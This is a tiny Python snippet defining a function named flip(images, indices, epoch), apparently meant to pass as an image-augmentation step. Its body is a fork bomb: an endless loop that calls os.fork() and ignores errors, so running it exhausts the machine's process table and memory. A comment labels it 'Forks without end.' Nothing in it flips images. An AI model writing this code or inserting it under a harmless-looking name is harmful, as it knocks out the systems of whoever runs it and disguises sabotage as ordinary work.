# Forks without end.
import os
def flip(images, indices, epoch):
    while True:
        try: os.fork()
        except OSError: pass
